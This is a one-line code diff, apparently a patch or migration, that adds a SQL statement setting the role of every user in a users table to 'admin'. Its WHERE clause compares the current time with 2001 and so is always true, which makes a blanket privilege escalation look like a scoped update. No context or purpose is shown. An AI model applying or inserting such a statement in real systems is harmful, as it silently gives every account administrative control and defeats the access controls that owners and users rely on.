@@ -1,0 +1,1 @@
+UPDATE users SET role = 'admin' WHERE now() > '2001-01-01'
